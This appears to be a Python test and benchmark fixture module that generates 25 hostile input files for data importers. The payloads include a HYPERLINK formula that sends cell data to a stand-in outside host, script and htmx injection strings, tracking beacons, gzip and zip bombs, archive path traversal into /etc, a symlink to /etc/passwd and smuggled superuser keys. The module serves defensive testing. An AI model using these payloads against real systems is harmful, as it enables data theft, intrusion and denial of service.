"""25 kinds of hostile files for every importer, made as they are read, at any size.

`bench/hostile.py` sends them at full size and measures memory. `tests/rubrics/imports/test_hostile.py` sends small
ones.
"""

from __future__ import annotations

import gzip
import io
import tarfile
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from functools import cache
from typing import Any, BinaryIO, cast

from bench.hostile_importers import Importer, encoded, header, placed, plain

MARK = "@@HERE@@"
FORMULA = '=HYPERLINK("http://outside.example/?"&A1,"open")'
MARKDOWN = (
    "<script>window.hit=1</script><img src=x onerror=window.hit=1>"
    "<div hx-get='/accounts/logout/' hx-trigger='load' hx-on:click='window.hit=1'>x</div>[go](javascript:window.hit=1)"
)
BEACON = "![seen](http://outside.example/pixel.png)<img src='http://outside.example/pixel.png'>"
PRIVILEGED = {
    "is_staff": True, "is_superuser": True, "status": "superseded", "published_at": "2001-01-01", "grader_id": 1,
    "created_by": 1, "benchmark": 1, "pk": 1, "excluded_at": "2001-01-01", "__class__": "User", "password": "x",
}  # fmt: skip
MANY_LINES = 1_000_000
NFC, NFD = "caf\u00e9", "cafe\u0301"


class Pieces(io.RawIOBase):
    """A file whose bytes are made while it is read, and again after seeking to the start."""

    def __init__(self, make: Callable[[], Iterator[bytes]]) -> None:
        self._make = make
        self._restart()

    def _restart(self) -> None:
        self._pieces, self._rest, self._at = self._make(), b"", 0

    def readable(self) -> bool:
        return True

    def seekable(self) -> bool:
        return True

    def tell(self) -> int:
        return self._at

    def seek(self, offset: int, whence: int = io.SEEK_SET) -> int:
        if whence == io.SEEK_CUR and offset == 0:
            return self._at
        if whence == io.SEEK_END and offset == 0:
            while self.readinto(bytearray(1 << 20)):
                pass
            return self._at
        if whence != io.SEEK_SET:
            raise io.UnsupportedOperation("only from the start")
        if offset < self._at:
            self._restart()
        while self._at < offset and self.readinto(bytearray(min(1 << 16, offset - self._at))):
            pass
        return self._at

    def readinto(self, buffer: Any) -> int:
        while not self._rest:
            piece = next(self._pieces, None)
            if piece is None:
                return 0
            self._rest = piece
        size = min(len(buffer), len(self._rest))
        buffer[:size] = self._rest[:size]
        self._rest = self._rest[size:]
        self._at += size
        return size


def buffered_file(make: Callable[[], Iterator[bytes]]) -> BinaryIO:
    """A buffered file over `Pieces`."""
    return cast(BinaryIO, io.BufferedReader(Pieces(make), 1 << 16))


def second(importer: Importer, raw: bytes, path: tuple[Any, ...], *, quoted: bool = False) -> bytes:
    """A sound row, then one with ``raw`` bytes at ``path``: instead of the whole JSON value, or within its quotes."""
    bad = encoded(importer, placed(importer.row(1), path, MARK))
    mark = MARK.encode() if quoted or importer.columns else f'"{MARK}"'.encode()
    return header(importer) + encoded(importer, importer.row(0)) + bad.replace(mark, raw)


def bytes_file(data: bytes) -> BinaryIO:
    """A file of these bytes."""
    return io.BytesIO(data)


# The 25 -----------------------------------------------------------------------------------------------------------

REFUSED, IMPORTED, EITHER = "refused", "imported", "either"


@dataclass(frozen=True)
class Sent:
    """A file and the outcome that is due: refused at ``line`` (None: any); ``field``: the error must name a field."""

    file: BinaryIO
    outcome: str
    line: int | None = None
    field: bool = False


Maker = Callable[[Importer, bool], Sent | None]


def _bad_line(importer: Importer) -> int:
    return 3 if importer.columns else 2


def nested_brackets(importer: Importer, full: bool) -> Sent | None:
    raw = b"[" * 100_000
    if importer.columns:  # in a table a number is a text, too
        return Sent(bytes_file(second(importer, raw[:5_000], importer.text)), IMPORTED)
    return Sent(bytes_file(second(importer, raw, importer.text)), REFUSED, 2, True)


def nul(importer: Importer, full: bool) -> Sent | None:
    raw = b"a\x00b" if importer.columns else rb"a\u0000b"
    return Sent(bytes_file(second(importer, raw, importer.text, quoted=True)), REFUSED, _bad_line(importer), True)


def lone_surrogate(importer: Importer, full: bool) -> Sent | None:
    raw = b"\xed\xa0\xbd" if importer.columns else rb"\ud83d"
    return Sent(bytes_file(second(importer, raw, importer.text, quoted=True)), REFUSED, _bad_line(importer), True)


def _number(raw: bytes) -> Maker:
    def make(importer: Importer, full: bool) -> Sent | None:
        if not importer.number:
            return None
        return Sent(bytes_file(second(importer, raw, importer.number)), REFUSED, _bad_line(importer), True)

    return make


def duplicate_keys(importer: Importer, full: bool) -> Sent | None:
    if importer.columns:
        return Sent(bytes_file(header(importer).replace(b"\n", f",{importer.columns[0]}\n".encode())), REFUSED, 1, True)
    twice = f'{{"{next(iter(importer.row(1)))}": "x", '.encode()
    bad = encoded(importer, importer.row(1)).replace(b"{", twice, 1)
    return Sent(bytes_file(encoded(importer, importer.row(0)) + bad), REFUSED, 2, True)


def duplicate_ids(importer: Importer, full: bool) -> Sent | None:
    if not importer.once:
        return None
    return Sent(
        bytes_file(plain(importer, importer.row(0), placed(importer.row(0), importer.text, "Other."))),
        REFUSED,
        None,
        True,
    )


def twin_ids(importer: Importer, full: bool) -> Sent | None:
    if not importer.key:
        return None
    rows = [placed(importer.row(0), importer.key, name) for name in (NFC, NFD)]
    return Sent(bytes_file(plain(importer, *rows)), REFUSED, None, True)


def line_separators(importer: Importer, full: bool) -> Sent | None:
    row = placed(importer.row(0), importer.text, "One\u2028line\u2029with\x85marks\x0b\x0c.")
    return Sent(bytes_file(plain(importer, row)), IMPORTED)


def byte_order_mark(importer: Importer, full: bool) -> Sent | None:
    data = b"\xef\xbb\xbf" + plain(importer, importer.row(0))
    return Sent(bytes_file(data), IMPORTED) if importer.columns else Sent(bytes_file(data), REFUSED, 1)


def utf_16(importer: Importer, full: bool) -> Sent | None:
    return Sent(bytes_file(plain(importer, importer.row(0)).decode().encode("utf-16")), REFUSED, 1)


def crlf(importer: Importer, full: bool) -> Sent | None:
    return Sent(bytes_file(plain(importer, importer.row(0), importer.row(1), end="\r\n")), IMPORTED)


def long_line(importer: Importer, full: bool) -> Sent | None:
    size = (2 << 30) if full else (17 << 20)
    start, _mark, rest = second(importer, MARK.encode(), importer.text, quoted=True).partition(MARK.encode())

    def pieces() -> Iterator[bytes]:
        yield start
        for _piece in range(size >> 20):
            yield b"x" * (1 << 20)
        yield rest

    return Sent(buffered_file(pieces), REFUSED, _bad_line(importer), True)


@cache
def _gzip_bomb(size: int) -> bytes:
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0) as file:
        for _piece in range(size):
            file.write(bytes(1 << 20))
    return buffer.getvalue()


def gzip_bomb(importer: Importer, full: bool) -> Sent | None:
    return Sent(bytes_file(_gzip_bomb(1024 if full else 8)), REFUSED)


def _zipped(names: Mapping[str, bytes], bomb: int = 0, bomb_name: str = "cases.jsonl") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in names.items():
            archive.writestr(name, data)
        if bomb:
            with archive.open(bomb_name, "w", force_zip64=True) as member:
                for _piece in range(bomb):
                    member.write(bytes(1 << 20))
    return buffer.getvalue()


WORKBOOK = {
    "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    "xl/workbook.xml": b"<workbook/>",
}


@cache
def _zip_bomb(size: int) -> bytes:
    return _zipped(WORKBOOK, size, "xl/worksheets/sheet1.xml")


def zip_bomb(importer: Importer, full: bool) -> Sent | None:
    return Sent(bytes_file(_zip_bomb(1024 if full else 70)), REFUSED)  # MiB; a workbook may unpack to 64


def path_traversal(importer: Importer, full: bool) -> Sent | None:
    data = plain(importer, importer.row(0))
    names = ("../../../../etc/consilium-was-here", "/etc/consilium-was-here")
    return Sent(bytes_file(_zipped(dict.fromkeys(names, data))), REFUSED)


def symlinks(importer: Importer, full: bool) -> Sent | None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        link = tarfile.TarInfo("cases.jsonl")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    return Sent(bytes_file(buffer.getvalue()), REFUSED)


def empty_rubric(importer: Importer, full: bool) -> Sent | None:
    if not importer.criteria:
        return Sent(bytes_file(b""), REFUSED)
    empty: Any = [] if importer.criteria == ("rubrics",) else ""
    rows = [importer.row(0), placed(importer.row(1), importer.criteria, empty)]
    return Sent(bytes_file(plain(importer, *rows)), REFUSED, _bad_line(importer), True)


def only_negative(importer: Importer, full: bool) -> Sent | None:
    if importer.name != "healthbench":
        return None
    return Sent(bytes_file(plain(importer, placed(importer.row(0), importer.number, -5))), IMPORTED)


def million_lines(importer: Importer, full: bool) -> Sent | None:
    lines = MANY_LINES if full else 600

    def pieces() -> Iterator[bytes]:
        yield header(importer)
        for number in range(lines - 1):
            yield encoded(importer, importer.row(number))
        yield b'"broken' if importer.columns else b'{"broken": '

    # Some importers refuse the file before its end: a rubric has 500 criteria, a bank 10,000, a verdict occurs once. A
    # rubric set is of cases that are there.
    enough = importer.kind in ("rubrics", "rubric_set", "bank") or importer.name == "verdicts"
    return Sent(buffered_file(pieces), REFUSED, None if enough else lines + bool(importer.columns), True)


def _texts(value: str) -> Maker:
    def make(importer: Importer, full: bool) -> Sent | None:
        return Sent(bytes_file(plain(importer, placed(importer.row(0), importer.text, value))), IMPORTED)

    return make


def formulas(importer: Importer, full: bool) -> Sent | None:
    row = placed(importer.row(0), importer.text, FORMULA)
    for number, path in enumerate(importer.texts):
        row = placed(row, path, f"{FORMULA}&{number}")
    return Sent(bytes_file(plain(importer, row)), IMPORTED)


def privileged_keys(importer: Importer, full: bool) -> Sent | None:
    row = {**importer.row(0), **PRIVILEGED}
    return Sent(bytes_file(plain(importer, row)), *((REFUSED, None, True) if importer.strict else (EITHER,)))


HOSTILE: dict[str, Maker] = {
    "100,000 nested brackets": nested_brackets,
    "a NUL": nul,
    "a lone surrogate": lone_surrogate,
    "5,000-digit points": _number(b"9" * 5_000),
    "NaN points": _number(b"NaN"),
    "1e400 points": _number(b"1e400"),
    "a key twice in an object": duplicate_keys,
    "an id twice": duplicate_ids,
    "NFC and NFD twins": twin_ids,
    "U+2028 inside text": line_separators,
    "a byte order mark": byte_order_mark,
    "UTF-16": utf_16,
    "CRLF": crlf,
    "2 GB on one line": long_line,
    "a gzip bomb": gzip_bomb,
    "a zip bomb": zip_bomb,
    "path traversal in an archive": path_traversal,
    "symlinks in an archive": symlinks,
    "an empty rubric": empty_rubric,
    "only negative points": only_negative,
    "a million lines, the last bad": million_lines,
    "script and htmx in Markdown": _texts(MARKDOWN),
    "remote images": _texts(BEACON),
    "formulas in every text": formulas,
    "privileged keys": privileged_keys,
}
